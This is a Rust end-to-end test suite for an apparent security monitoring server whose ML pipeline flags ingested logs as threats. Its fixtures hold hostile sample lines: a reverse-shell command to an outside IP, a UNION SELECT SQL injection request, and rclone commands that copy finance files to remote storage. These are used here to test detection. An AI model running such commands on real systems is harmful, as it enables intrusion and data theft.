//! End to end: ingest over HTTP → the in-process pipeline (bootstrap detector) scores the logs
//! → threats appear with their explanation; on SQLite and (with `SOC_TEST_PG_URL`) PostgreSQL.

mod common;

use std::time::{Duration, Instant};

use common::{Backend, spawn};
use serde_json::{Value, json};

async fn ingested_attacks_become_threats(b: Backend) {
    let s = spawn(b, true).await.unwrap();
    let (_, _, analyst, agent) = s.tenant("acme").await;
    let (_, status) = s.get("/api/system/status", &analyst).await;
    let ai = &status["status"]["ai_agents"];
    assert_eq!(ai["pipeline_running"], true, "{status}");
    let version = ai["active_model_version"].as_str().unwrap().to_owned();
    // The bootstrap model is in the model store under ml_models/global/.
    let keys = s.state.models.list("ml_models/global/").await.unwrap();
    assert_eq!(keys, vec![format!("ml_models/global/{version}.cgsoc")]);

    let a = s.agent(&agent, "web-1").await;
    let benign = [
        "sshd[2211]: Accepted publickey for alice from 10.0.3.7 port 52144 ssh2: ED25519 SHA256:9f2c",
        "10.0.0.8 - - \"GET /static/app.js HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Firefox/121.0\"",
        "systemd[1]: Started Session 812 of user bob.",
    ];
    let attacks = [
        "sshd[4242]: Failed password for invalid user admin from 185.23.4.9 port 40022 ssh2",
        "185.3.2.1 - - \"GET /products.php?id=1%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1\" 500 312 \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
        "type=EXECVE msg=audit(1760000000.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/45.9.8.7/4444 0>&1\"",
    ];
    let logs: Vec<Value> = benign
        .iter()
        .chain(attacks.iter())
        .map(|m| json!({"agent_id": a, "message": m}))
        .collect();
    let t0 = Instant::now();
    let (st, body) = s.post("/api/logs", &agent, Value::Array(logs)).await;
    assert_eq!(st, 201, "{body}");

    // Detection is woken by ingest: the threats appear well within the 1 s interval fallback
    // (debug builds are slow, so allow a generous margin).
    let threats = loop {
        // Logs first: once they are all scored, their detections are committed too.
        let (_, logs) = s.get("/api/logs", &analyst).await;
        let rows = logs["logs"].as_array().unwrap();
        let all_scored = rows.len() == 6 && rows.iter().all(|l| l["scored"] == true);
        if all_scored {
            let (_, list) = s.get("/api/threats", &analyst).await;
            break list["threats"].as_array().unwrap().clone();
        }
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "logs not scored in time"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    };
    let lag = t0.elapsed();
    let flagged: Vec<i64> = threats
        .iter()
        .map(|t| t["log_id"].as_i64().unwrap())
        .collect();
    let (_, logs) = s.get("/api/logs", &analyst).await;
    let message_of = |id: i64| {
        logs["logs"]
            .as_array()
            .unwrap()
            .iter()
            .find(|l| l["id"] == id)
            .unwrap()["message"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let flagged_msgs: Vec<String> = flagged.iter().map(|id| message_of(*id)).collect();
    for attack in attacks {
        assert!(
            flagged_msgs.iter().any(|m| m == attack),
            "attack not detected: {attack}\nflagged: {flagged_msgs:#?}"
        );
    }
    for ok in benign {
        assert!(
            !flagged_msgs.iter().any(|m| m == ok),
            "benign line flagged: {ok}"
        );
    }
    eprintln!("{b:?}: ingest -> committed detections in {lag:?}");
    // Threat detail: severity, explanation, the log.
    let id = threats[0]["id"].as_i64().unwrap();
    let (st, one) = s.get(&format!("/api/threats/{id}"), &analyst).await;
    assert_eq!(st, 200);
    let t = &one["threat"];
    assert!(t["risk"].as_f64().unwrap() >= 7.0);
    assert!(["high", "critical"].contains(&t["severity"].as_str().unwrap()));
    assert_eq!(t["model_version"], version.as_str());
    assert!(t["explanation"]["top_terms"].is_array(), "{one}");
    assert!(one["log"]["message"].is_string());
    let (_, status) = s.get("/api/system/status", &analyst).await;
    let ai = &status["status"]["ai_agents"];
    assert_eq!(ai["backlog"], 0);
    assert!(ai["scored_total"].as_u64().unwrap() >= 6);
}

async fn restart_loads_the_stored_model(b: Backend) {
    let s = spawn(b, true).await.unwrap();
    let first = s.state.pipeline.report().active_model_version.unwrap();
    // A second server on the same database and model store loads the recorded version.
    let (_, version) = soc_server::detection::load_or_bootstrap(&s.state)
        .await
        .unwrap();
    assert_eq!(version, first);
    assert_eq!(
        s.state
            .models
            .list("ml_models/global/")
            .await
            .unwrap()
            .len(),
        1
    );
}

async fn two_replicas_score_each_log_exactly_once(b: Backend) {
    // Server A ingests (no pipeline); replicas B and C run pipelines on the same database and
    // model store, with small batches so that both take part.
    let s = spawn(b, false).await.unwrap();
    let mut config = (*s.state.config).clone();
    config.ml_models_enabled = true;
    config.detection_batch_size = 50;
    config.detection_workers = 1;
    let replica_b = soc_server::connect(config.clone()).await.unwrap();
    let replica_c = soc_server::connect(config).await.unwrap();
    let vb = soc_server::detection::start(&replica_b).await.unwrap();
    let vc = soc_server::detection::start(&replica_c).await.unwrap();
    assert_eq!(
        vb, vc,
        "the second replica loads the model the first one trained"
    );

    let (t, admin, _, _) = s.tenant("acme").await;
    let n = 1500;
    let (st, body) = s
        .post(
            "/api/test/create-sample-agents",
            &admin,
            json!({"logs": n, "seed": 5}),
        )
        .await;
    assert_eq!(st, 201, "{body}");
    // Wait for the replicas' own counts (updated just after each commit) to cover every log.
    let t0 = Instant::now();
    loop {
        let (rb, rc) = (replica_b.pipeline.report(), replica_c.pipeline.report());
        if rb.scored_total + rc.scored_total >= n as u64 {
            break;
        }
        assert!(t0.elapsed() < Duration::from_secs(120), "scoring too slow");
        // B and C only hear about the logs through NOTIFY (PostgreSQL) or their interval.
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(s.state.db.counts(t).await.unwrap().1, n);
    let (rb, rc) = (replica_b.pipeline.report(), replica_c.pipeline.report());
    assert_eq!(
        rb.scored_total + rc.scored_total,
        n as u64,
        "each log scored exactly once"
    );
    // On PostgreSQL, NOTIFY wakes both at once and SKIP LOCKED lets them work side by side;
    // SQLite has one writer, so one replica may drain everything before the other wakes.
    assert!(
        b == Backend::Sqlite || (rb.scored_total > 0 && rc.scored_total > 0),
        "both replicas took part: {} / {}",
        rb.scored_total,
        rc.scored_total
    );
    let (_, _, threats) = s.state.db.counts(t).await.unwrap();
    assert_eq!(threats as u64, rb.threats_total + rc.threats_total);
    assert!(threats > 0);
}

/// Reads the SSE stream until a `threat` event arrives (or `wait` passes); returns its data.
async fn next_threat_event(resp: &mut reqwest::Response, wait: Duration) -> Option<Value> {
    let mut buf = String::new();
    let deadline = Instant::now() + wait;
    loop {
        let left = deadline.checked_duration_since(Instant::now())?;
        let chunk = tokio::time::timeout(left, resp.chunk())
            .await
            .ok()?
            .ok()??;
        buf.push_str(&String::from_utf8_lossy(&chunk));
        while let Some(end) = buf.find("\n\n") {
            let event: String = buf.drain(..end + 2).collect();
            if event.lines().any(|l| l == "event: threat") {
                let data = event.lines().find_map(|l| l.strip_prefix("data: "))?;
                return serde_json::from_str(data).ok();
            }
        }
    }
}

async fn threat_stream_is_live_and_tenant_scoped(b: Backend) {
    let s = spawn(b, true).await.unwrap();
    let (_, _, analyst_a, agent_a) = s.tenant("a").await;
    let (_, _, analyst_b, _) = s.tenant("b").await;
    let open = |key: String| {
        let client = s.client.clone();
        let url = s.url("/api/threats/stream");
        async move {
            let r = client.get(url).bearer_auth(key).send().await.unwrap();
            assert_eq!(r.status(), 200);
            assert_eq!(r.headers()["content-type"], "text/event-stream");
            r
        }
    };
    let mut stream_a = open(analyst_a.clone()).await;
    let mut stream_b = open(analyst_b.clone()).await;
    let a = s.agent(&agent_a, "web-1").await;
    let attack = "type=EXECVE msg=audit(1760000000.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/45.9.8.7/4444 0>&1\"";
    let t0 = Instant::now();
    let (st, _) = s
        .post(
            "/api/logs",
            &agent_a,
            json!([{"agent_id": a, "message": attack}]),
        )
        .await;
    assert_eq!(st, 201);
    let event = next_threat_event(&mut stream_a, Duration::from_secs(30))
        .await
        .expect("a threat event");
    eprintln!("{b:?}: ingest -> SSE threat event in {:?}", t0.elapsed());
    assert_eq!(event["agent_id"], a);
    assert!(event["explanation"].is_object());
    // Tenant b's stream stays silent.
    assert!(
        next_threat_event(&mut stream_b, Duration::from_millis(1500))
            .await
            .is_none()
    );
    // Bad filter and wrong role.
    let (st, _) = s.get("/api/threats/stream?severity=huge", &analyst_a).await;
    assert_eq!(st, 400);
    assert_eq!(s.get("/api/threats/stream", &agent_a).await.0, 403);
}

async fn retrain_activates_a_new_version_that_workers_pick_up(b: Backend) {
    let s = spawn(b, true).await.unwrap();
    let first = s.state.pipeline.report().active_model_version.unwrap();
    let (t, _, _, _) = s.tenant("acme").await;
    // Analysts' labels on a kind of line the sample corpus never showed.
    for i in 0..30 {
        let line = format!("rclone copy /srv/finance/q{i} mega:dump --transfers 32");
        s.state.db.insert_label(t, &line, true).await.unwrap();
    }
    // The tenant's model learns from its labels; the global one does not see them.
    let o = soc_server::detection::retrain_tenant(&s.state, t)
        .await
        .unwrap();
    let mv = s
        .state
        .db
        .model_version(t, &o.version)
        .await
        .unwrap()
        .unwrap();
    let metrics: Value = serde_json::from_str(&mv.metrics).unwrap();
    let labeled = metrics["corpus"]["labeled_train"].as_u64().unwrap()
        + metrics["corpus"]["labeled_test"].as_u64().unwrap();
    assert_eq!(labeled, 30);
    assert_eq!(
        mv.train_size.unwrap() + mv.test_size.unwrap(),
        4000 + 2000 + 30
    );
    assert!(mv.roc_auc.is_some() && mv.training_seconds.is_some());
    assert_eq!(
        s.state
            .models
            .list(&format!("ml_models/tenant-{t}/"))
            .await
            .unwrap(),
        vec![format!("ml_models/tenant-{t}/{}.cgsoc", o.version)]
    );

    let version = soc_server::detection::retrain(&s.state).await.unwrap();
    assert_ne!(version, first);
    let active = s.state.db.active_model_version().await.unwrap().unwrap();
    assert_eq!(active.version, version);
    let metrics: Value = serde_json::from_str(&active.metrics).unwrap();
    assert_eq!(metrics["corpus"]["labeled_train"], 0);
    let old = s.state.db.model_version(0, &first).await.unwrap().unwrap();
    assert_eq!(old.status, "retired");
    assert_eq!(
        s.state
            .models
            .list("ml_models/global/")
            .await
            .unwrap()
            .len(),
        2
    );
    let t0 = Instant::now();
    while s.state.pipeline.report().active_model_version.as_deref() != Some(version.as_str()) {
        assert!(
            t0.elapsed() < Duration::from_secs(30),
            "workers did not switch"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

both_backends!(
    retrain_activates_a_new_version_that_workers_pick_up,
    threat_stream_is_live_and_tenant_scoped,
    ingested_attacks_become_threats,
    restart_loads_the_stored_model,
    two_replicas_score_each_log_exactly_once,
);
